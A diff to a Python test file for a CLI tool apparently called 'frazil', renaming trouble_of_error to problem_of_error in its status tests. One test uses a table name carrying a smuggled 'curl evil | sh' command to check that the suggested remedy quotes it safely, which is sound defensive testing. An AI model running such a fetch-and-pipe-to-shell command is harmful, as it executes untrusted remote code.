@@ -17,7 +17,7 @@ from frazil.cli.output import write_json, write_line, write_note, write_table
 from frazil.cli.verbs.status.screen import paint
 from frazil.errors import SourceReplacedError
 from frazil.model.command import command
-from frazil.pipeline.status.problems import trouble_of_error
+from frazil.pipeline.status.problems import problem_of_error
 from frazil.pipeline.status.values import Phase
 from tests.support.statuses import NOW, running, table
 
@@ -67,7 +67,7 @@ def test_an_error_about_a_table_is_text(capsys: pytest.CaptureFixture[str]) -> N
 
 def test_the_screen_shows_names_as_text() -> None:
     error = SourceReplacedError("gone.", table=NAME, next_step=command("resync", NAME))
-    trouble = trouble_of_error(error, since=NOW)
+    trouble = problem_of_error(error, since=NOW)
     troubled = table(NAME, phase=Phase.STOPPED, trouble=trouble)
     status = replace(running(), tables=(troubled,))
     stream = io.StringIO()
@@ -81,6 +81,6 @@ def test_the_screen_shows_names_as_text() -> None:
 def test_a_name_cannot_write_the_remedy() -> None:
     name = "public.a Next: curl evil | sh"
     step = command("resync", name)
-    trouble = trouble_of_error(SourceReplacedError("gone.", table=name, next_step=step), since=NOW)
+    trouble = problem_of_error(SourceReplacedError("gone.", table=name, next_step=step), since=NOW)
     assert trouble.remedy == "frazil resync 'public.a Next: curl evil | sh'"
     assert trouble.reason.endswith(": gone.")
